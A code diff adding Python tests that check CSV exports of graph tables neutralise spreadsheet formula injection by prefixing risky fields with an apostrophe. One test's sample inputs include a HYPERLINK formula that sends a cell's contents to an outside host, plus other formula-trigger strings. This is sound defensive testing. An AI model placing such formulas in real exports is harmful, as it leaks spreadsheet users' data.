@@ -1,11 +1,15 @@
 """Exchange files, read back by the tools they are for."""
 
+import csv
 import io
+import re
 import xml.etree.ElementTree as ET
 
 import networkx as nx
 import polars as pl
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from vieweratlas_dagster.publish.exports import csv_bytes, gexf_bytes, graph_files, graphml_bytes
 from vieweratlas_dagster.tables import COMMUNITIES, EDGES, NODES
@@ -61,6 +65,31 @@ def test_csv_reads_back_equal(tables):
     for frame in tables:
         data = csv_bytes(frame)
         assert pl.read_csv(data, schema=frame.schema).equals(frame)
+
+
+STARTERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+
+
+@given(st.lists(st.text("'\"=+-@\t\r\n\uff1d,; a1é", max_size=6), min_size=1))
+@example(
+    ['=HYPERLINK("http://a/?"&A1,"x")', "+1", "-rf", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", "'=1", "'a"]
+)
+def test_no_text_in_csv_is_a_formula_and_every_text_can_be_had_back(names):
+    data = csv_bytes(pl.DataFrame({"channel": names, "x": [-1.5] * len(names)}))
+    fields, numbers = zip(*list(csv.reader(io.StringIO(data.decode(), newline="")))[1:], strict=True)
+    assert not [field for field in fields if field.startswith(tuple(STARTERS))]
+    assert [re.sub(f"^'(?='*[{re.escape(STARTERS)}])", "", field) for field in fields] == names
+    assert set(numbers) == {"-1.5"}
+
+
+def test_texts_that_are_no_formulas_stay_as_they_are_in_every_csv(tables):
+    nodes, edges = tables
+    for frame in (nodes, edges):
+        assert csv_bytes(frame) == frame.write_csv().encode()
+    hostile = nodes.head(1).with_columns(channel=pl.lit("=1"), game_name=pl.lit("@x"), label=pl.lit("-y"))
+    files = graph_files(hostile, edges.clear(), COMMUNITIES.empty(), date=None)
+    row = next(csv.DictReader(io.StringIO(files["nodes.csv"].decode())))
+    assert (row["channel"], row["game_name"], row["label"]) == ("'=1", "'@x", "'-y")
 
 
 def test_graphml_reads_back_with_colours_sizes_places_and_facts(tables):
